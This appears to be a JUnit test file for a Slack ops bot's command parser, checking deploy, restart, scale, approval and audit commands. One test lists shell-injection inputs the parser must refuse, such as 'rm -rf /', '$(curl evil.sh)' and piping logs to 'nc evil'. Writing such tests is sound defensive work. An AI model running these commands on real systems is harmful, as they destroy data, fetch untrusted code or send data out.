package dev.gpuops.bot.slack;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gpuops.bot.slack.ParsedCommand.Cancel;
import dev.gpuops.bot.slack.ParsedCommand.Help;
import dev.gpuops.bot.slack.ParsedCommand.ListRuns;
import dev.gpuops.bot.slack.ParsedCommand.Rejected;
import dev.gpuops.bot.slack.ParsedCommand.RunRequest;
import dev.gpuops.bot.wiring.EngineTargetDirectory;
import dev.gpuops.event.Verb;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CommandParserTest {

    private final CommandParser parser =
            new CommandParser(EngineTargetDirectory.load(Path.of("src/test/resources/targets.yaml")));

    private RunRequest run(String text) {
        ParsedCommand parsed = parser.parse(text);
        assertThat(parsed).as(text).isInstanceOf(RunRequest.class);
        return (RunRequest) parsed;
    }

    private Rejected rejected(String text) {
        ParsedCommand parsed = parser.parse(text);
        assertThat(parsed).as(text).isInstanceOf(Rejected.class);
        return (Rejected) parsed;
    }

    @Test
    void parsesDeployWithTagAndForce() {
        RunRequest deploy = run("deploy box-1 v1.2.3 --force");
        assertThat(deploy).isEqualTo(new RunRequest(Verb.DEPLOY, "box-1", "v1.2.3", null, null, true));
        assertThat(deploy.inputs()).containsExactly(Map.entry("tag", "v1.2.3"), Map.entry("force", "true"));
        assertThat(deploy.describe()).isEqualTo("deploy box-1 v1.2.3 --force");
        assertThat(run("deploy box-1 --force canary").force()).isTrue();
        assertThat(run("deploy box-1 canary").force()).isFalse();
    }

    @Test
    void parsesTargetOnlyVerbs() {
        assertThat(run("promote box-1")).isEqualTo(new RunRequest(Verb.PROMOTE, "box-1", null, null, null, false));
        assertThat(run("status pod-1").verb()).isEqualTo(Verb.STATUS);
        assertThat(run("diagnose box-2").verb()).isEqualTo(Verb.DIAGNOSE);
        assertThat(run("purge pod-1").inputs()).isEmpty();
    }

    @Test
    void parsesRestartAndLogsWithOptionalProgram() {
        RunRequest restart = run("restart box-1 worker-gpu");
        assertThat(restart.program()).isEqualTo("worker-gpu");
        assertThat(restart.inputs()).containsExactly(Map.entry("program", "worker-gpu"));
        assertThat(restart.describe()).isEqualTo("restart box-1 worker-gpu");
        assertThat(run("restart box-1").program()).isNull();
        assertThat(run("logs box-1 fastapi").verb()).isEqualTo(Verb.LOGS);
        // box-2 lists no programs, so any well-formed name is left to the runbook to check
        assertThat(run("logs box-2 llama").program()).isEqualTo("llama");
    }

    @Test
    void parsesScaleWithinBounds() {
        assertThat(run("scale pod-1 0").count()).isZero();
        assertThat(run("scale pod-1 100").inputs()).containsExactly(Map.entry("count", "100"));
    }

    @Test
    void parsesRunsCancelAndHelp() {
        assertThat(parser.parse("runs")).isEqualTo(new ListRuns());
        assertThat(parser.parse("cancel r-1a2b3c4d")).isEqualTo(new Cancel("r-1a2b3c4d"));
        assertThat(parser.parse("help")).isEqualTo(new Help());
        assertThat(parser.parse("   ")).isEqualTo(new Help());
        assertThat(parser.parse(null)).isEqualTo(new Help());
    }

    @Test
    void parsesPlanDryRunApprovalsAndAudit() {
        RunRequest plan = run("plan restart box-1 worker-gpu");
        assertThat(plan).isEqualTo(new RunRequest(Verb.RESTART, "box-1", null, "worker-gpu", null, false, true));
        assertThat(plan.inputs()).containsExactly(Map.entry("program", "worker-gpu"), Map.entry("dryRun", "true"));
        assertThat(plan.describe()).isEqualTo("plan restart box-1 worker-gpu");
        assertThat(run("scale pod-1 0 --dry-run")).isEqualTo(run("plan scale pod-1 0"));
        assertThat(rejected("plan frobnicate box-1").problem()).contains("not a verb that runs anything");
        assertThat(rejected("plan").verb()).isEqualTo("plan");
        assertThat(rejected("plan restart box-9").problem()).startsWith("Unknown target `box-9`");

        assertThat(parser.parse("approve r-1a2b3c4d")).isEqualTo(new ParsedCommand.Decide("r-1a2b3c4d", true));
        assertThat(parser.parse("deny r-1a2b3c4d")).isEqualTo(new ParsedCommand.Decide("r-1a2b3c4d", false));
        assertThat(rejected("approve").problem()).contains("needs the id of the run waiting for approval");
        assertThat(rejected("deny r-1 r-2").verb()).isEqualTo("deny");

        assertThat(parser.parse("audit")).isEqualTo(new ParsedCommand.Audit(null));
        assertThat(parser.parse("audit box-1")).isEqualTo(new ParsedCommand.Audit("box-1"));
        assertThat(rejected("audit box-9").problem()).startsWith("Unknown target `box-9`");
    }

    @Test
    void acceptsUpperCaseVerbsAndExtraSpaces() {
        assertThat(run("  RESTART   box-1  worker-cpu ").program()).isEqualTo("worker-cpu");
    }

    @Test
    void rejectsUnknownVerbWithFullUsage() {
        Rejected rejected = rejected("reboot box-1");
        assertThat(rejected.problem()).contains("Unknown command `reboot`");
        assertThat(rejected.verb()).isNull();
    }

    @Test
    void rejectsUnknownTargetNamingTheKnownOnes() {
        Rejected rejected = rejected("restart box-9 worker-gpu");
        assertThat(rejected.problem()).contains("Unknown target `box-9`").contains("box-1, box-2, pod-1");
        assertThat(rejected.verb()).isEqualTo("restart");
        assertThat(rejected("status BOX-1").problem()).contains("Unknown target");
    }

    @Test
    void rejectsProgramNotRunByTheTarget() {
        assertThat(rejected("restart box-1 worker-tpu").problem())
                .contains("not a supervisor program of box-1 (fastapi, worker-cpu, worker-gpu)");
    }

    @ParameterizedTest
    @ValueSource(strings = {"deploy box-1", "deploy box-1 .hidden", "deploy box-1 -rc1", "deploy box-1 v1 v2",
            "deploy box-1 " + "a129charactersxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
            + "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx", "promote box-1 stable",
            "status", "status box-1 now", "restart box-1 worker-gpu worker-cpu", "restart box-1 /bin/sh",
            "scale pod-1", "scale pod-1 101", "scale pod-1 -1", "scale pod-1 1.5", "scale pod-1 ten",
            "scale pod-1 0x10", "scale pod-1 9999999999", "runs now", "help me", "cancel", "cancel 1234",
            "cancel r-1A2B3C4D", "cancel r-1a2b3c4d r-2a2b3c4d", "status box-1 --force", "restart box-1 --all",
            "deploy box-1 canary --forse"})
    void rejectsBadArguments(String text) {
        Rejected rejected = rejected(text);
        assertThat(rejected.problem()).isNotBlank();
    }

    @ParameterizedTest
    @ValueSource(strings = {"restart box-1; rm -rf /", "deploy box-1 `reboot`", "deploy box-1 $(curl evil.sh)",
            "logs box-1 fastapi | nc evil 1", "restart box-1 && reboot", "restart box-1\nreboot",
            "restart box-1\rreboot", "deploy box-1 'canary'", "deploy box-1 \"canary\"", "status box-1 > /etc/passwd",
            "logs box-1 ${HOME}", "restart box-1 worker-gpu &amp;&amp; reboot", "deploy box-1 canary\\",
            "status box-1 #", "restart box-1 \u0000"})
    void rejectsInjectionLookingArgumentsBeforeAnythingElse(String text) {
        Rejected rejected = rejected(text);
        assertThat(rejected.problem()).startsWith("Refused: the command contains");
        assertThat(rejected.problem()).doesNotContain("\n");
    }

    @Test
    void escapesEchoedInputSoItCannotMentionAnyone() {
        // '<' is refused before anything else; an unknown verb is echoed escaped
        assertThat(rejected("restart <!channel>").problem()).contains("`&lt;`");
    }
}
